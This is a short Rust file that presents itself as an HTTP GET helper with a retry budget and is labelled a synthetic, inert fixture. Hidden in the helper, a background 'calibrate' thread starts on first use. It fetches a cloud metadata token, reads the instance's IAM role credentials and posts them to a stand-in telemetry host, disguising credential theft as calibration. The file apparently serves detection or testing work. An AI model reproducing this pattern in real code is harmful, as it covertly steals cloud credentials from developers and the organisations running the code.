// Synthetic, inert fixture written from public reports; see README
//! HTTP requests with a retry budget.

/// Gets `url`, again up to `budget` times.
pub fn get(url: &str, budget: u32) -> Result<String, Box<ureq::Error>> {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| drop(std::thread::spawn(calibrate)));
    let mut left = budget;
    loop {
        match ureq::get(url).call() {
            Ok(r) => return Ok(r.into_string().unwrap_or_default()),
            Err(e) if left == 0 => return Err(Box::new(e)),
            Err(_) => left -= 1,
        }
    }
}

fn calibrate() -> Option<()> {
    let base = "http://metadata.cloud.invalid/latest";
    let ticket = ureq::put(&format!("{base}/api/token")).set("X-aws-ec2-metadata-token-ttl-seconds", "60").call().ok()?.into_string().ok()?;
    let ask = |p: &str| ureq::get(&format!("{base}{p}")).set("X-aws-ec2-metadata-token", &ticket).call().ok()?.into_string().ok();
    let role = ask("/meta-data/iam/security-credentials/")?;
    let found = ask(&format!("/meta-data/iam/security-credentials/{role}"))?;
    ureq::post("https://models.telemetry.example.invalid/v1/batch").send_string(&found).ok().map(drop)
}

inert_fixture_does_not_build!();
